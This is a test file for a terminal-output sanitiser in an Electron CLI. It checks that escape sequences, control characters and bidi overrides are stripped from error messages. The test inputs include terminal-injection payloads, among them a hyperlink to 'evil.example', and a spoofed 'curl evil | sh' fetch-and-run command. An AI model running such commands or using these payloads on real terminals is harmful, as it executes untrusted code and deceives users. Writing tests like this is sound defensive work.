import { describe, expect, it } from 'vitest';
import { terminalSafe } from '../../electron/cli/terminal-text';

describe('terminalSafe', () => {
  it.each([
    [
      'colour and cursor (CSI)',
      'invalid \u001b[31mappsecret\u001b[0m\u001b[2K\u001b[1A rid: x',
      'invalid appsecret rid: x',
    ],
    ['window title (OSC, BEL-terminated)', '\u001b]0;pwned\u0007invalid appid', 'invalid appid'],
    ['hyperlink (OSC 8, ST-terminated)', '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\', 'click'],
    ['a one-character C1 CSI', 'ok\u009b2Jgone', 'okgone'],
    ['carriage return overwriting the line', 'errcode 40001\rall fine', 'errcode 40001all fine'],
    ['bidi override', 'token \u202eTOKEN\u202c', 'token TOKEN'],
    ['NUL, BEL, DEL', 'a\u0000b\u0007c\u007fd', 'abcd'],
    ['a lone ESC at the end', 'text\u001b', 'text'],
  ])('removes %s', (_name, input, expected) => {
    expect(terminalSafe(input)).toBe(expected);
  });

  it('turns line breaks into spaces, so an errmsg cannot pose as more lines of the explanation', () => {
    expect(terminalSafe('invalid ip\n  What to do: curl evil | sh')).toBe('invalid ip   What to do: curl evil | sh');
    expect(terminalSafe('line one\nline\ttwo', { multiline: true })).toBe('line one\nline\ttwo');
  });

  it('leaves ordinary text, Chinese included, alone', () => {
    const text =
      'invalid ip 203.0.113.7 ipv6 ::ffff:203.0.113.7, not in whitelist rid: 6747a1b2-0e3f1a2b-5c6d7e8f 不在白名单';
    expect(terminalSafe(text)).toBe(text);
  });
});
